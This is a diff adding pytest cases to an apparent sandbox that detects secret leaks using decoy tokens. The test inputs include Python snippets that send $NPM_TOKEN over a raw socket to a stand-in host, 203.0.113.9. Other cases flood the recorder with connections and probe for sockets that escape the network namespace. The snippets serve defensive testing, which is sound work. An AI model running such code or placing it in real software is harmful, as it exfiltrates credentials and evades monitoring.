@@ -159,6 +159,49 @@ def test_gzip_hides_no_decoy():
     assert [leak.name for leak in record.leaks] == ["$NPM_TOKEN"]
 
 
+@pytest.mark.parametrize(
+    "ending",
+    ["time.sleep(11)", "s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0)); s.close()"],
+    ids=["never", "with a reset"],
+)
+def test_a_request_that_is_not_ended_hides_no_decoy(ending):
+    record = one(
+        python(
+            "import os, socket, struct, time\n"
+            "s = socket.create_connection(('203.0.113.9', 80))\n"
+            "s.send(b'POST / HTTP/1.1\\r\\nContent-Length: 999\\r\\n\\r\\n' + os.environ['NPM_TOKEN'].encode())\n"
+            + ending
+        )
+    )
+
+    assert [(leak.name, leak.target) for leak in record.leaks] == [("$NPM_TOKEN", "203.0.113.9")]
+
+
+def test_who_takes_every_place_of_the_sink_leaves_no_whole_record():
+    record = one(
+        python(
+            "import socket, time\n"
+            "c = [socket.create_connection(('203.0.113.9', 80)) for _ in range(130)]; time.sleep(1)"
+        )
+    )
+
+    assert not record.complete
+    assert "More was sent than is written down; the rest is left out." in record.problems
+
+
+def test_no_socket_passes_the_network_namespace():
+    record = one(
+        python(
+            "import socket\n"
+            "for family, kind in [(40, 1), (38, 5), (1, 1), (2, 1), (16, 3)]:\n"
+            "    try: socket.socket(family, kind); print('made')\n"
+            "    except OSError as problem: print(problem.errno)\n"
+        )
+    )
+
+    assert record.stdout.split() == [b"97", b"97", b"made", b"made", b"made"]
+
+
 def test_decoys_are_other_ones_in_each_run():
     assert not set(Decoys.new().tokens.values()) & set(Decoys.new().tokens.values())
 
